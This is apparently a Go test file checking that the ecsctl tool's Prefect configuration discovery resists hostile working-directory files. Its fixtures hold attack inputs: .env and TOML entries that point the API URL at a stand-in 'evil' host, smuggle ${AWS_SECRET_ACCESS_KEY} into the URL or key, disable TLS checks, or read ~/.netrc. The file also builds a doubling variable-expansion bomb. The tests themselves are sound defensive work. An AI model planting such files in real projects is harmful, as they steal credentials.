package prefect_test

import (
	"runtime/metrics"
	"strings"
	"testing"

	"ecsctl/prefect"
)

// ownKey and its server are the user's; evil is whoever made the working directory.
var ownEnv = []string{"PREFECT_API_KEY=pnu_own", "AWS_SECRET_ACCESS_KEY=aws_own"}

const ownProfile = "active = \"own\"\n[profiles.own]\nPREFECT_API_URL = \"https://own/api\"\nPREFECT_API_KEY = " +
	"\"pnu_own\"\n"

// foundFiles are attacks by what a working directory holds, and what is no attack.
var foundFiles = map[string]struct {
	files     map[string]string
	env       []string
	overrides prefect.Overrides
	url, key  string
	warning   string
}{
	"prefect.toml takes the key of the environment": {
		files: map[string]string{"prefect.toml": "[api]\nurl = \"https://evil/api\"\n"}, env: ownEnv,
		key: "pnu_own", warning: "PREFECT_API_URL of ",
	},
	"pyproject.toml takes the key of the profile": {
		files: map[string]string{
			"pyproject.toml":              "[tool.prefect.api]\nurl = \"https://evil/api\"\n",
			"home/.prefect/profiles.toml": ownProfile,
		},
		url: "https://own/api", key: "pnu_own", warning: "pyproject.toml is not used",
	},
	".env takes the key of the environment": {
		files: map[string]string{".env": "PREFECT_API_URL=https://evil/api\n"}, env: ownEnv,
		key: "pnu_own", warning: ".env is not used",
	},
	"ecsctl.yaml takes the key of the environment": {
		overrides: prefect.Overrides{Found: prefect.Found{File: "ecsctl.yaml", APIURL: "https://evil/api"}},
		env:       append([]string{"PREFECT_API_URL=https://own/api"}, ownEnv...),
		url:       "https://own/api", key: "pnu_own", warning: "prefect.apiUrl of ecsctl.yaml is not used",
	},
	".env takes any variable as a key": {
		files: map[string]string{
			".env": "PREFECT_API_URL=https://evil/api\nA=${AWS_SECRET_ACCESS_KEY}\nPREFECT_API_KEY=\"x$A${A}\"\n"},
		env: []string{"AWS_SECRET_ACCESS_KEY=aws_own"},
		url: "https://evil/api", warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
	},
	".env takes any variable in the URL": {
		files: map[string]string{".env": "PREFECT_API_URL=https://evil/${AWS_SECRET_ACCESS_KEY}\n"},
		env:   []string{"AWS_SECRET_ACCESS_KEY=aws_own"}, warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
	},
	".env takes any variable by way of a name that refers to itself": {
		files: map[string]string{".env": "A=${AWS_SECRET_ACCESS_KEY}\nA=${A}\nPREFECT_API_URL=https://evil/${A}\n"},
		env:   []string{"AWS_SECRET_ACCESS_KEY=aws_own"}, warning: "${AWS_SECRET_ACCESS_KEY} from the environment",
	},
	"prefect.toml turns the check of certificates off": {
		files: map[string]string{"prefect.toml": "[api]\ntls_insecure_skip_verify = true\n"},
		env:   append([]string{"PREFECT_API_URL=https://own/api"}, ownEnv...),
		url:   "https://own/api", key: "pnu_own", warning: "PREFECT_API_TLS_INSECURE_SKIP_VERIFY of ",
	},
	".env names the file of profiles": {
		files: map[string]string{
			".env": "PREFECT_PROFILES_PATH=evil.toml\n", "evil.toml": strings.ReplaceAll(ownProfile, "own/api",
				"evil/api"),
		},
		env: ownEnv, key: "pnu_own", warning: "PREFECT_PROFILES_PATH of ",
	},
	"ecsctl.yaml names a file whose line is sent as a key": {
		overrides: prefect.Overrides{Found: prefect.Found{File: "ecsctl.yaml", APIKeyFile: "/home/own/.netrc"}},
		env:       append([]string{"PREFECT_API_URL=https://own/api"}, ownEnv...),
		url:       "https://own/api", key: "pnu_own", warning: "prefect.apiKeyFile of ecsctl.yaml is not used",
	},
	"the same server is no attack": {
		files: map[string]string{
			"prefect.toml": "[api]\nurl = \"https://own/api/\"\n", "home/.prefect/profiles.toml": ownProfile,
		},
		url: "https://own/api", key: "pnu_own",
	},
	"a directory with all of its own": {
		files: map[string]string{".env": "PREFECT_API_URL=https://theirs/api\nPREFECT_API_KEY=pnu_theirs\n"},
		url:   "https://theirs/api", key: "pnu_theirs",
	},
	"the key of another profile's server": {
		files: map[string]string{"home/.prefect/profiles.toml": ownProfile},
		env:   []string{"PREFECT_API_URL=http://localhost:4200/api"},
		url:   "http://localhost:4200/api", warning: "PREFECT_API_KEY of profile \"own\"",
	},
}

// TestFoundFilesDoNotTakeTheKey: whatever a working directory holds, no credential of the
// user is sent to a server that is not the user's.
func TestFoundFilesDoNotTakeTheKey(t *testing.T) {
	t.Parallel()
	for name, tt := range foundFiles {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir, env := workspace(t, tt.files, tt.env)
			s, err := prefect.Discover(env, dir, tt.overrides)
			if err != nil {
				t.Fatal(err)
			}
			if s.APIURL != tt.url || s.APIKey.Reveal() != tt.key {
				t.Errorf("key %q goes to %q, not %q to %q", s.APIKey.Reveal(), s.APIURL, tt.key, tt.url)
			}
			if o, err := s.ClientOptions(); err != nil || o.TLS != nil {
				t.Errorf("error %v, TLS %v", err, o.TLS)
			}
			warnings := strings.Join(s.Warnings(), "\n")
			if !strings.Contains(warnings, tt.warning) || (tt.warning == "") != (warnings == "") {
				t.Errorf("warnings %q, not %q", warnings, tt.warning)
			}
			if strings.Count(warnings, "\n") > 0 {
				t.Errorf("said more than once: %s", warnings)
			}
		})
	}
}

// TestDotenvDoubles: each line holds the one before it twice.
func TestDotenvDoubles(t *testing.T) { // not beside others: it counts what is allocated
	var bomb strings.Builder
	bomb.WriteString("A=0123456789\n")
	for c := 'B'; c < 'Y'; c++ {
		bomb.WriteString(string(c) + "=${" + string(c-1) + "}${" + string(c-1) + "}\n")
	}
	bomb.WriteString("PREFECT_API_KEY=${X}${X}${X}\n")
	dir, env := workspace(t, map[string]string{".env": bomb.String()}, nil)
	before := allocated()
	_, err := prefect.Discover(env, dir, prefect.Overrides{})
	if used := allocated() - before; used > 8<<20 {
		t.Errorf("%d bytes of .env took %d MiB", bomb.Len(), used>>20)
	}
	if err == nil || !strings.Contains(err.Error(), ".env: line 14: N is longer than 64 KiB") {
		t.Errorf("error %v", err)
	}
}

// allocated is what this process has allocated so far, freed or not.
func allocated() uint64 {
	sample := []metrics.Sample{{Name: "/gc/heap/allocs:bytes"}}
	metrics.Read(sample)
	return sample[0].Value.Uint64()
}
